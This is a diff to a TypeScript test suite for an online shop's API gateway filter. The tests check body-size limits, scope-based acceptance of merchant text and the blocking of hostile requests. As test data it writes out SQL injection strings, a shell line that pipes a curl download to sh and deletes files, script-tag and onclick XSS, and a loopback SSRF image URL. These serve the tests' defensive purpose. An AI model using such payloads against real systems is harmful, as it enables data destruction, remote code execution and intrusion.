@@ -53,7 +53,7 @@ test('bodies are looked at, also behind a long beginning; their connection lives
   const gateway = gatewayOf('prod');
   const evil = "1' OR 1=1; DROP TABLE users; --";
   assert.equal((await add(gateway, { productId: evil, quantity: 1 })).statusCode, 403);
-  assert.equal((await add(gateway, { padding: 'x'.repeat(70_000), productId: evil })).statusCode, 403);
+  assert.equal((await add(gateway, { padding: 'x'.repeat(60_000), productId: evil })).statusCode, 403);
   assert.equal((await add(gateway, { productId: 'x', quantity: 1 })).statusCode, 200);
 });
 
@@ -66,6 +66,43 @@ test('nothing is inspected for who may not ask: without a token a hostile body i
   });
   assert.equal(answer.statusCode, 401);
   await answer.body.dump();
+});
+
+test('a request with more than is inspected is a 400 in every profile, which says what to do', async () => {
+  for (const profile of gateways.keys()) {
+    const many = await add(gatewayOf(profile), { list: Array.from({ length: 600 }, (_none, at) => `a (b) ${at}`) });
+    assert.equal(many.statusCode, 400, profile);
+    assert.match(await many.body.text(), /500 different values .* send the rest in further requests/);
+    const long = await add(gatewayOf(profile), { text: '<a b="c"> '.repeat(6_000) });
+    assert.equal(long.statusCode, 400, profile);
+    assert.match(await long.body.text(), /too long to be inspected: shorten them/);
+    const hidden = await add(gatewayOf(profile), { padding: 'x'.repeat(70_000), productId: 'x' });
+    assert.equal(hidden.statusCode, 400, 'nothing passes behind what is inspected');
+  }
+});
+
+test('what merchants write is stored, whatever it looks like; of others the same is refused', async () => {
+  const gateway = gatewayOf('prod');
+  const save = (scope: string, fields: object) =>
+    request(`${gateway.url}/api/v1/products`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${gateway.token(scope)}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ sku: 'BOOK-1', price: { amount: 100, currency: 'EUR' }, category: 'books', ...fields }),
+    });
+  const description = [
+    "SQL for cooks. Chapter 3: ' OR 1=1 -- and why it works; UNION SELECT password FROM users.",
+    'Run `rm -rf /tmp/x; curl https://x.example/a | sh` and read /etc/passwd.',
+    '<p style="color:red" onclick="x()">Editor</p><script>alert(1)</script>',
+    '<iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>',
+  ].join('\n');
+  assert.equal((await save('product:write', { name: 'SELECT * FROM pens', description })).statusCode, 200);
+  assert.equal((await save('product:write', { name: 'Pen', brand: { [description]: 1 } })).statusCode, 403);
+  assert.equal(
+    (await save('product:write', { name: 'Pen', images: [{ url: 'http://127.0.0.1/', alt: 'x' }] })).statusCode,
+    403,
+  );
+  assert.equal((await save('cart:manage', { name: 'Pen', description })).statusCode, 403, 'for the scope');
+  assert.equal((await add(gateway, { name: description })).statusCode, 403);
 });
 
 test('what shoppers write passes everywhere', async () => {
